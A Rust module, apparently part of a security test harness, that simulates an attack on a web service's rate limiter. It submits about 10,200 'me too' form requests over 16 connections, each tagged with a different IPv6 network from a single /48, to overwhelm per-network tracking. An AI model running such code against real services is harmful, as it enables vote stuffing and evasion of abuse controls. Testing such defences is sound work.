//! Attacks by the number of addresses: one customer of an IPv6 provider has 65,536 networks.

use super::{Target, forms};
use crate::esb::ATTACKER;
use crate::http1::Connection;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use tokio::task::JoinSet;

/// More networks than the rate limiter remembers.
const NETWORKS: usize = 10_200;
/// Connections for all networks.
const CONNECTIONS: usize = 16;

/// "Me too" once from each network of a /48.
pub(super) async fn say_me_too(target: Target) -> anyhow::Result<()> {
    let (next, mut speaking) = (Arc::new(AtomicUsize::new(0)), JoinSet::new());
    for _ in 0..CONNECTIONS {
        let next = Arc::clone(&next);
        speaking.spawn(async move {
            while let Ok(mut connection) = Connection::open_from(ATTACKER, target.web).await {
                loop {
                    let network = next.fetch_add(1, Ordering::Relaxed);
                    if network >= NETWORKS {
                        return;
                    }
                    let request = forms::me_too(target, Some(&format!("2001:db8:0:{network:x}::1")));
                    if connection.ask(&request).await.is_err() {
                        break;
                    }
                }
            }
        });
    }
    speaking.join_all().await;
    Ok(())
}
